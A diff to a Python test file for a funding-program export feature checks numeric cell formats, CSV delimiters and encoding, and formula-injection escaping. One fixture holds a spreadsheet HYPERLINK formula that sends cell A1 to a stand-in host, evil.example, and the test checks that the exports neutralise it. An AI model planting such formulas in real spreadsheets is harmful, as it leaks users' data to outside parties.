@@ -52,6 +52,7 @@ def test_xlsx_export_opens_with_every_column(client: Client) -> None:
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     sheet = load_workbook(io.BytesIO(response.content)).active
     rows = [[c.value for c in r] for r in sheet.iter_rows()]
+    formats = {r[0].value: [c.number_format for c in r] for r in sheet.iter_rows(min_row=2)}
     assert rows[0] == [
         "Program",
         "Organization",
@@ -67,8 +68,11 @@ def test_xlsx_export_opens_with_every_column(client: Client) -> None:
         "Last verified",
     ]
     by_name = {r[0]: r for r in rows[1:]}
-    assert by_name["Export aid"][5] == "$50,000"
-    assert by_name["Export aid"][6] == "50%"
+    # Numbers stay numbers, shown by a number format (not text like "$50,000").
+    assert by_name["Export aid"][5] == 50000
+    assert formats["Export aid"][5] == '"$"#,##0'
+    assert by_name["Export aid"][6] == 50
+    assert formats["Export aid"][6] == '0.## "%"'
     assert by_name["Unknown loan"][5] == "unknown"
     assert all(cell not in (None, "") for r in rows for cell in r)
 
@@ -76,8 +80,9 @@ def test_xlsx_export_opens_with_every_column(client: Client) -> None:
 def test_csv_export_follows_the_filters_in_french(client: Client) -> None:
     _programs()
     response = client.get("/fr/financement/exporter/csv/", {"aid": "loan"})
+    assert response.content.startswith(b"\xef\xbb\xbf")
     text = response.content.decode("utf-8-sig")
-    rows = list(csv.reader(io.StringIO(text)))
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert rows[0][0] == "Programme"
     assert [r[0] for r in rows[1:]] == ["Prêt inconnu"]
     assert rows[1][5] == "inconnu"
@@ -94,3 +99,26 @@ def test_pdf_export_is_a_pdf_with_the_names(client: Client) -> None:
 
 def test_unknown_export_format_is_404(client: Client) -> None:
     assert client.get("/en/funding/export/doc/").status_code == 404
+
+
+def test_csv_export_in_english_uses_commas_and_plain_numbers(client: Client) -> None:
+    _programs()
+    response = client.get("/en/funding/export/csv/")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    by_name = {r[0]: r for r in rows[1:]}
+    assert by_name["Export aid"][5:7] == ["50000", "50"]
+
+
+def test_a_program_name_written_as_a_formula_is_inert_in_every_export(client: Client) -> None:
+    make_program("evil", name_fr='=HYPERLINK("http://evil.example/?x="&A1,"clic")', name_en="")
+    csv_rows = list(
+        csv.reader(
+            io.StringIO(client.get("/fr/financement/exporter/csv/").content.decode("utf-8-sig")),
+            delimiter=";",
+        )
+    )
+    assert csv_rows[1][0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")'
+    sheet = load_workbook(io.BytesIO(client.get("/fr/financement/exporter/xlsx/").content)).active
+    cell = sheet.cell(row=2, column=1)
+    assert cell.data_type == "s"
+    assert str(cell.value).startswith("'=")
